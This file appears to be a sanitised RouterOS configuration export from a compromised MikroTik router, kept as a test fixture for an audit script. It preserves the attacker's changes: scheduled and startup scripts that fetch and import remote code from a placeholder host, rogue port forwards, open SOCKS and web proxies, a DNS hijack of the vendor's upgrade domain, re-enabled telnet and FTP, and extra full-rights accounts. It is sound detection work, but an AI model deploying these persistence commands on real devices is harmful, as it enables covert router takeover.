# SAMPLE – excerpt of /export from a compromised hAP ac2 (RouterOS 6.40.5)
# taken during IR-2023-088. Public IPs replaced with documentation ranges,
# secrets replaced. Kept as a test fixture for scripts/ros_audit.py.
# DO NOT /import THIS FILE.

/ip firewall filter
add action=accept chain=input dst-port=8291 protocol=tcp
add action=accept chain=input connection-state=established,related
add action=drop chain=input in-interface=ether1
/ip firewall nat
add action=masquerade chain=srcnat out-interface=ether1
# rogue: forwards inbound 8080 on WAN to an external host (traffic laundering)
add action=dst-nat chain=dstnat dst-port=8080 in-interface=ether1 protocol=tcp \
    to-addresses=198.51.100.9 to-ports=80
add action=dst-nat chain=dstnat dst-port=443 in-interface=ether1 protocol=tcp \
    src-address-list=!trusted to-addresses=203.0.113.120 to-ports=443
/ip socks
set enabled=yes port=4153
/ip proxy
set enabled=yes port=8080
/ip dns
set allow-remote-requests=yes servers=203.0.113.53
/ip dns static
add address=203.0.113.200 name=upgrade.mikrotik.com
/ip service
set telnet disabled=no
set ftp disabled=no
set www port=80
set api disabled=no
set winbox address=""
/system scheduler
add interval=10m name=upd8 on-event="/tool fetch url=\"http://203.0.113.50/mikrotik.php\" dst-path=u.rsc mode=http; :delay 5s; /import u.rsc" \
    policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive start-date=mar/02/2023 start-time=03:11:09
add name=stup on-event="/system script run script3_" policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive start-time=startup
/system script
add name=script3_ owner=admin policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive \
    source="/tool fetch address=203.0.113.50 host=cdn-sync.example mode=http src-path=\"/s.rsc\" dst-path=\"s.rsc\"\r\n:delay 3s\r\n/import s.rsc"
/user
add group=full name=service password=REDACTED
add group=full name=admin-noc address=192.0.2.0/24
